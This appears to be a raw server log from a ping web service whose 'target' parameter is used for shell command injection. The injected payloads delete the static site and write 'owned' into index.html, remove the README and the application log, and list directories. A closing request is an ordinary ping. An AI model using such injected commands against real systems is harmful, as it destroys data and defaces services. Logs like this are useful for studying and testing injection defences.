2026-11-24T15:15:55.182822515Z 	-i SECS		Interval
2026-11-24T15:15:55.182824828Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:55.182827021Z 	-t TTL		Set TTL
2026-11-24T15:15:55.182873651Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:55.182876615Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:55.182878949Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:55.182881202Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:55.182883726Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:55.182886270Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:55.182888743Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:55.184523967Z 172.20.0.1 - - [24/Nov/2026 15:15:55] "[33mGET /?target=;rm%20-rf%20/app/static;mkdir%20/app/static;echo%20owned%20%3E/app/static/index.html HTTP/1.1[0m" 200 -
2026-11-24T15:15:55.399211818Z [::ffff:172.20.0.1]:38028: url:/
2026-11-24T15:15:55.401305985Z [32mINFO[0m pinging ";rm /app/README /var/log/app.log"
2026-11-24T15:15:55.404517760Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:55.404575892Z 
2026-11-24T15:15:55.404582862Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:55.404585807Z 
2026-11-24T15:15:55.404588200Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:55.404590584Z 
2026-11-24T15:15:55.404593078Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:55.404595661Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:55.404598075Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:55.404600509Z 	-i SECS		Interval
2026-11-24T15:15:55.404602832Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:55.404605266Z 	-t TTL		Set TTL
2026-11-24T15:15:55.404607649Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:55.404610093Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:55.404612536Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:55.404614770Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:55.404617073Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:55.404619407Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:55.404621820Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:55.405478555Z 172.20.0.1 - - [24/Nov/2026 15:15:55] "[33mGET /?target=;rm%20/app/README%20/var/log/app.log HTTP/1.1[0m" 200 -
2026-11-24T15:15:55.621351591Z [::ffff:172.20.0.1]:38042: url:/
2026-11-24T15:15:55.624641657Z [32mINFO[0m pinging ";echo notes >/tmp/.s;cat /tmp/.s;rm /tmp/.s"
2026-11-24T15:15:55.627826408Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:55.627846768Z 
2026-11-24T15:15:55.627849953Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:55.627852476Z 
2026-11-24T15:15:55.627854770Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:55.627857334Z 
2026-11-24T15:15:55.627859697Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:55.627902501Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:55.627905215Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:55.627907749Z 	-i SECS		Interval
2026-11-24T15:15:55.627910122Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:55.627912906Z 	-t TTL		Set TTL
2026-11-24T15:15:55.627915560Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:55.627918405Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:55.627921008Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:55.627936912Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:55.627939686Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:55.627942130Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:55.627944644Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:55.629929558Z 172.20.0.1 - - [24/Nov/2026 15:15:55] "[37mGET /?target=;echo%20notes%20%3E/tmp/.s;cat%20/tmp/.s;rm%20/tmp/.s HTTP/1.1[0m" 200 -
2026-11-24T15:15:55.847715801Z [::ffff:172.20.0.1]:38056: url:/
2026-11-24T15:15:55.852291001Z [32mINFO[0m pinging ";ls -alR /app /tmp"
2026-11-24T15:15:55.854934245Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:55.855005942Z 
2026-11-24T15:15:55.855314571Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:55.855324576Z 
2026-11-24T15:15:55.855327290Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:55.855388181Z 
2026-11-24T15:15:55.855398446Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:55.855402231Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:55.855404625Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:55.855408150Z 	-i SECS		Interval
2026-11-24T15:15:55.855410384Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:55.855412757Z 	-t TTL		Set TTL
2026-11-24T15:15:55.855415010Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:55.855417254Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:55.855419437Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:55.855421440Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:55.855423643Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:55.855425786Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:55.855427920Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:55.857050104Z 172.20.0.1 - - [24/Nov/2026 15:15:55] "[37mGET /?target=;ls%20-alR%20/app%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T15:15:56.078334343Z [::ffff:172.20.0.1]:38072: url:/
2026-11-24T15:15:56.081716737Z [32mINFO[0m pinging "127.0.0.1"
2026-11-24T15:15:57.084293130Z 172.20.0.1 - - [24/Nov/2026 15:15:57] "[37mGET /?target=127.0.0.1 HTTP/1.1[0m" 200 -
